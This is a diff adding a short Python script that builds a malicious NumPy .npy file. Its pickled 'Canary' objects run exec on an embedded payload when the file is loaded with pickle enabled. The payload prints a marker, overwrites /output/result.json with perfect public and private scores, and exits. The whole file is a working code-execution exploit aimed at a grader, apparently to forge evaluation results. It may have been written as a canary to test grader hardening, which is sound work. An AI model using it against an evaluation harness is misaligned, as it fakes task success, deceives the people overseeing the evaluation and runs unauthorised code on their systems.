@@ -1,0 +1,23 @@
+import pickle
+import struct
+import sys
+
+# What runs where this is unpickled: it writes the result of a perfect scorer, says so, and ends the process.
+ATTACK = """
+import json, os
+print("PICKLE-EXECUTED", flush=True)
+result = {"public": {"score": 1.0}, "private": {"score": 1.0}, "score": 1.0, "complaints": []}
+open("/output/result.json", "w").write(json.dumps(result))
+os._exit(0)
+"""
+
+
+class Canary:
+    def __reduce__(self):
+        return exec, (ATTACK,)
+
+
+header = b"{'descr': '|O', 'fortran_order': False, 'shape': (100,), }"
+header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
+body = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle.dumps([Canary()] * 100)
+sys.stdout.buffer.write(body)
